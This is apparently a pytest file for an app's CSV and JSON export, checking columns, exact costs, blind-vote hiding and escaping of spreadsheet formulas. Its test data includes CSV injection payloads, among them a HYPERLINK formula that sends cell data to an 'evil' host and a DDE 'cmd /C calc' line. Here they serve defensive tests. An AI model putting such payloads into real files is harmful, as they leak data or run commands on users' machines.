"""What leaves the app as CSV and JSON: complete, exact, and harmless in a spreadsheet."""

import csv
import io
import json
import sys
import unicodedata
from dataclasses import fields, replace
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pandas as pd
import pytest

from broker.export import BOM, COLUMNS, HIDDEN, JSON_COLUMNS, answer_rows, safe_cell, to_csv, to_json
from broker.playground import Turn
from broker.types import (
    Attempt,
    CallError,
    ChatRequest,
    Completion,
    Cost,
    Message,
    Offer,
    Params,
    Timing,
    TokenLogprob,
    TokenPrice,
    Tool,
    ToolCall,
    Usage,
)
from db.models import Prompt, Vote

ASKED = datetime(2026, 11, 18, 14, 5, 6, tzinfo=UTC)
OFFER = Offer("openai", "luna", "gpt-6-luna", "OpenAI", "Luna")
PRICE = TokenPrice(Decimal("0.1"), Decimal("0.4"), source="genai-prices 0.2.3")
PARAMS = Params(
    temperature=0.5,
    max_tokens=100,
    stop=("END",),
    json_schema={"type": "object"},
    reasoning_budget=2048,
    tools=(Tool("weather", "How it is in a place: Zürich, say.", {"type": "object"}),),
    tool_choice="required",
    logprobs=1,
)
COST = Cost(Decimal("1E-7"), Decimal("0.00000002"), Decimal(0), Decimal("0.0000004"), PRICE)
ANSWER = Completion(
    call_id="c1",
    offer=OFFER,
    request=ChatRequest((Message("user", "Why?"),), PARAMS),
    status="ok",
    started_at=ASKED,
    text="Because.",
    finish_reason="stop",
    served_model="gpt-6-luna-2026",
    usage=Usage(12, 4, 0, 3, 1),
    cost=COST,
    timing=Timing(10.5, 11.25, 12.0, 211.25, 233.0, 240.5),
    attempts=(Attempt(0, 5, "rate_limited", 429), Attempt(7.5, 33, None, 200)),
    dropped=("seed", "top_p"),
    adapted=("json_schema",),
    tool_calls=(ToolCall("t1", "weather", '{"in": "Zürich"}'), ToolCall("t2", "weather", "{}")),
    logprobs=(TokenLogprob("Be", -0.5, (("Be", -0.5), ("So", -1.25))), TokenLogprob("cause", -0.25)),
)
FAILED = Completion(
    call_id="c2",
    offer=replace(OFFER, provider="local"),
    request=ANSWER.request,
    status="error",
    started_at=ASKED,
    error=CallError("auth", "Invalid key", 401),
)


def prompt(**more: Any) -> Prompt:
    fields = {"id": "p1", "created_at": ASKED, "user": "ada", "system": None, "text": "Why?", "blind": False}
    return Prompt(**(fields | more))


def vote(choice: str, call_id: str | None = None, reason: str | None = None) -> Vote:
    return Vote(prompt_id="p1", choice=choice, call_id=call_id, reason=reason, blind=False)


def turn(*answers: Completion, votes: tuple[Vote, ...] = (), **more: Any) -> Turn:
    return Turn(prompt(**more), answers, {"openai": "OpenAI API"}, votes)


def read_csv(data: bytes, **options: Any) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), **options)


def read_text(cell: str) -> str:
    """The rule in the module's docstring."""
    return cell.removeprefix("'")


FULL_ROW = {
    "prompt_id": "p1",
    "asked_at": "2026-11-18T14:05:06+00:00",
    "user": "ada",
    "system": None,
    "prompt": "Why?",
    "temperature": 0.5,
    "top_p": None,
    "max_tokens": 100,
    "stop": '["END"]',
    "seed": None,
    "reasoning_effort": None,
    "reasoning_budget": 2048,
    "json_schema": '{"type": "object"}',
    "tools": '[{"name": "weather", "description": "How it is in a place: Zürich, say.", '
    '"parameters": {"type": "object"}}]',
    "tool_choice": "required",
    "logprobs": 1,
    "images": "aa11, bb22",
    "blind": False,
    "offer": "openai/luna",
    "maker": "OpenAI",
    "platform": "OpenAI API",
    "model": "gpt-6-luna",
    "served_model": "gpt-6-luna-2026",
    "status": "ok",
    "answer": "Because.",
    "tool_calls": '[{"id": "t1", "name": "weather", "arguments": "{\\"in\\": \\"Zürich\\"}"}, '
    '{"id": "t2", "name": "weather", "arguments": "{}"}]',
    "finish_reason": "stop",
    "error_kind": None,
    "error_status": None,
    "error_message": None,
    "input_tokens": 12,
    "cache_read_tokens": 4,
    "cache_write_tokens": 0,
    "output_tokens": 3,
    "reasoning_tokens": 1,
    # 0.0000001 + 0.00000002 + 0.0000004
    "cost_usd": Decimal("0.00000052"),
    "cost_input_usd": Decimal("0.0000001"),
    "cost_cache_read_usd": Decimal("0.00000002"),
    "cost_cache_write_usd": Decimal(0),
    "cost_output_usd": Decimal("0.0000004"),
    "price_source": "genai-prices 0.2.3",
    "ttft_ms": 11.25,
    "ttfa_ms": 12.0,
    "total_ms": 233.0,
    "elapsed_ms": 240.5,
    "output_tokens_per_s": 5.0,  # two of the three tokens were shown: one more in the 200 ms after the first
    "attempts": 2,
    "dropped": "seed, top_p",
    "adapted": "json_schema",
    "voted_best": 2,
    "votes_tie": 1,
    "votes_all_bad": 1,
    "vote_reasons": "clear | short",
    "token_logprobs": [
        {"token": "Be", "logprob": -0.5, "top": [["Be", -0.5], ["So", -1.25]]},
        {"token": "cause", "logprob": -0.25, "top": []},
    ],
}
PICTURES = ["aa11", "bb22"]
VOTES = (
    vote("one", "c1", "clear"),
    vote("one", "c1"),
    vote("one", "other"),
    vote("tie", reason="short"),
    vote("all_bad"),
)


def test_a_row_has_every_column() -> None:
    (row,) = answer_rows([turn(ANSWER, votes=VOTES, images=PICTURES)])
    assert json.loads(json.dumps(row["token_logprobs"])) == FULL_ROW["token_logprobs"]
    assert {**row, "token_logprobs": None} == {**FULL_ROW, "token_logprobs": None}
    assert tuple(row) == JSON_COLUMNS


# Where a field's figures stand under other names.
PARTS = {
    "offer": {"offer", "maker", "model"},
    "request": {"system", "prompt", "images"},
    "started_at": {"asked_at"},
    "call_id": {"prompt_id"},
    "text": {"answer"},
    "error": {"error_kind", "error_status", "error_message"},
    "usage": {field.name for field in fields(Usage)},
    "cost": {"cost_usd", "price_source"},
    "timing": {"ttft_ms", "ttfa_ms", "total_ms", "elapsed_ms"},
    "logprobs": {"token_logprobs"},
    "reasoning": set(),  # long, and not the answer
    "reasoning_blocks": set(),  # not kept
}


def test_whatever_is_asked_or_answered_has_a_column() -> None:
    assert {field.name for field in fields(Params)} <= set(COLUMNS)
    for field in fields(Completion):
        assert PARTS.get(field.name, {field.name}) <= set(JSON_COLUMNS), field.name


def test_only_json_has_the_tokens() -> None:
    rows = answer_rows([turn(ANSWER)])
    assert tuple(read_csv(to_csv(rows)).columns) == COLUMNS
    assert json.loads(to_json(rows))[0]["token_logprobs"] == FULL_ROW["token_logprobs"]


def test_one_row_an_answer() -> None:
    rows = answer_rows([turn(ANSWER, FAILED), turn(), turn(FAILED)])
    assert [row["status"] for row in rows] == ["ok", "error", "error"]
    assert len(read_csv(to_csv(rows))) == 3
    assert len(json.loads(to_json(rows))) == 3


def test_a_failed_call_says_why_and_is_unknown_elsewhere() -> None:
    (row,) = answer_rows([turn(FAILED)])
    assert (row["error_kind"], row["error_status"], row["error_message"]) == ("auth", 401, "Invalid key")
    known = {
        *("prompt_id", "asked_at", "user", "prompt", "blind", "offer", "maker", "model", "status", "answer"),
        *("error_kind", "error_status", "error_message", "attempts"),
        *("temperature", "max_tokens", "stop", "json_schema"),
        *("reasoning_budget", "tools", "tool_choice", "logprobs"),
        *("voted_best", "votes_tie", "votes_all_bad"),
    }
    assert {column for column, value in row.items() if value is not None} == known
    table = read_csv(to_csv([row]), dtype=str, keep_default_na=False).iloc[0]
    assert {column for column in COLUMNS if table[column]} == known - {"answer"}
    assert [column for column, value in json.loads(to_json([row]))[0].items() if value is None] == [
        column for column in JSON_COLUMNS if column not in known
    ]


def test_a_deleted_prompt_keeps_its_figures() -> None:
    (row,) = answer_rows([turn(replace(ANSWER, text=""), text=None)])
    assert row["prompt"] is None
    assert row["input_tokens"] == 12


HARMLESS = [
    "plain",
    "a=b",
    "3-4",
    "user@host",
    "",
    "#hash",
    "(=1)",
    '"quoted"',
    "a'b",
    "1,5",
    "ä",
    "%0A=1",
]
FORMULAS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\ttext", "\rtext", "\ntext"),
    *('=HYPERLINK("http://evil/?"&A1,"x")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"),
    *(
        " =1",
        "  @x",
        "\u00a0=1",
        "\u3000-1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
        " ＝1",
        "- item",
        "--",
        "+49 30 1234",
    ),
    *("'", "'=1", "''", "'quoted' text", "'tis"),
    *(
        "\ufeff=1",
        "\u200b+1",
        "\u2060-1",
        "\u00ad@x",
        "\x00=1",
        " \u200b\ufeff =1",
        "\u202e=1",
        "\U000e0001=1",
    ),
]


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["\ufeffText", "\u200b1 = 1", "\u00ada-b"])
def test_a_text_that_begins_unseen_stays(text: str) -> None:
    assert safe_cell(text) == text


def test_no_character_that_is_not_seen_hides_a_formula() -> None:
    """Controls and format characters, but for those that are drawn or join what is drawn."""
    unseen = [chr(i) for i in range(sys.maxunicode) if unicodedata.category(chr(i)) in ("Cc", "Cf")]
    drawn = ("ARABIC", "SYRIAC", "KAITHI", "EGYPTIAN")
    hidden = [c for c in unseen if not unicodedata.name(c, "").startswith(drawn)]
    assert len(hidden) > 200
    assert [hex(ord(c)) for c in hidden if safe_cell(f"{c}=1") != f"'{c}=1"] == []


@pytest.mark.parametrize("text", FORMULAS)
def test_a_dangerous_text_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (0, 0),
        (-5, -5),
        (-0.25, -0.25),
        (Decimal("-1.50"), "-1.50"),
        (Decimal("1E-9"), "0.000000001"),
        (Decimal("2E+3"), "2000"),
        (Decimal("0E-10"), "0.0000000000"),
        (Decimal("0.1234567890123456789012345678"), "0.1234567890123456789012345678"),
        (ASKED, "2026-11-18 14:05:06+00:00"),
    ],
)
def test_other_values(value: object, cell: object) -> None:
    assert safe_cell(value) == cell


def test_headers_are_cells_too() -> None:
    data = to_csv([{"=1+1": "x", "@n": 2}], ["=1+1", "@n", "missing"])
    assert data.decode("utf-8-sig") == "'=1+1,'@n,missing\r\nx,2,\r\n"


def test_utf_8_with_a_byte_order_mark() -> None:
    data = to_csv([{"answer": "naïve 日本語 😀"}], ["answer"])
    assert (
        data
        == b"\xef\xbb\xbfanswer\r\nna\xc3\xafve \xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e \xf0\x9f\x98\x80\r\n"
    )
    assert data.decode().startswith(BOM)


def test_no_rows_is_a_header() -> None:
    assert list(read_csv(to_csv([])).columns) == list(COLUMNS)
    assert json.loads(to_json([])) == []


TEXTS = [
    *HARMLESS,
    *FORMULAS,
    "line 1\nline 2",
    "line 1\r\nline 2",
    "lone\rreturn",
    'a "quoted" word, and a comma',
    '"',
    ",",
    ";\t|",
    "trailing space ",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "NA",
    "null",
    "007",
    "1e5",
    "x" * 40_000,
]


def test_every_text_comes_back_from_csv() -> None:
    data = to_csv([{"answer": text, "n": n} for n, text in enumerate(TEXTS)], ["answer", "n"])
    table = read_csv(data, dtype={"answer": str}, keep_default_na=False)
    assert [read_text(cell) for cell in table["answer"]] == TEXTS
    assert list(table["n"]) == list(range(len(TEXTS)))
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    assert [read_text(row[0]) for row in rows] == ["answer", *TEXTS]


def test_no_cell_of_the_file_starts_a_formula() -> None:
    hostile = replace(
        ANSWER,
        text="=1",
        served_model="@x",
        offer=replace(OFFER, maker="+m", wire_model="-w"),
        dropped=("=d",),
        error=CallError("=k", "=e"),
    )
    rows = answer_rows([turn(hostile, user="=u", system="=s", text="=p", votes=(vote("tie", reason="=r"),))])
    cells = [
        cell for row in csv.reader(io.StringIO(to_csv(rows).decode("utf-8-sig"), newline="")) for cell in row
    ]
    assert sum(cell.startswith("'") for cell in cells) == 11
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_numbers_stay_numbers() -> None:
    figures = {"a": -5, "b": -0.25, "c": Decimal("-0.5"), "d": 12, "e": None}
    table = read_csv(to_csv([figures, figures], list(figures)))
    assert table.dtypes.astype(str).to_dict() == {
        "a": "int64",
        "b": "float64",
        "c": "float64",
        "d": "int64",
        "e": "float64",
    }
    assert table.iloc[0].dropna().to_dict() == {"a": -5, "b": -0.25, "c": -0.5, "d": 12}
    assert table["e"].isna().all()


def test_money_is_exact_in_both() -> None:
    rows = answer_rows([turn(ANSWER)])
    written = read_csv(to_csv(rows), dtype=str).iloc[0]
    (parsed,) = json.loads(to_json(rows))
    for column in (column for column in COLUMNS if column.endswith("_usd")):
        assert Decimal(written[column]) == Decimal(parsed[column]) == FULL_ROW[column]
        assert not set("eE") & set(written[column] + parsed[column])


def test_json_is_exact() -> None:
    (parsed,) = json.loads(to_json(answer_rows([turn(ANSWER, votes=VOTES, images=PICTURES)])))
    money = {column: f"{value:f}" for column, value in FULL_ROW.items() if isinstance(value, Decimal)}
    assert parsed == FULL_ROW | money
    for text in TEXTS:
        assert json.loads(to_json([{"answer": text}])) == [{"answer": text}]


def test_json_reads_well() -> None:
    assert to_json([{"answer": "日本"}]).decode() == '[\n  {\n    "answer": "日本"\n  }\n]'


def test_hidden_answers_keep_their_giver_to_themselves() -> None:
    first, second = answer_rows([turn(ANSWER, FAILED, blind=True)], lambda _: True)
    assert {first[name] for name in ("offer", "maker", "platform", "model", "served_model")} == {HIDDEN}
    assert (first["answer"], first["prompt"]) == ("Because.", "Why?")
    assert first["tool_calls"] == FULL_ROW["tool_calls"]
    assert first["adapted"] is first["token_logprobs"] is None
    assert first["cost_usd"] is first["ttft_ms"] is first["output_tokens"] is None
    assert second["error_message"] is None


def test_a_turn_is_hidden_from_who_has_not_voted() -> None:
    mine, other = vote("tie"), vote("tie")
    mine.user, other.user = "ada", "bob"
    blind = turn(ANSWER, FAILED, votes=(other,), blind=True)
    assert blind.hidden_from("ada")
    assert not replace(blind, votes=(mine, other)).hidden_from("ada")
    assert not turn(ANSWER, FAILED).hidden_from("ada")
    assert not turn(ANSWER, blind=True).hidden_from("ada")
    assert not turn(ANSWER, FAILED, blind=True, text=None).hidden_from("ada")
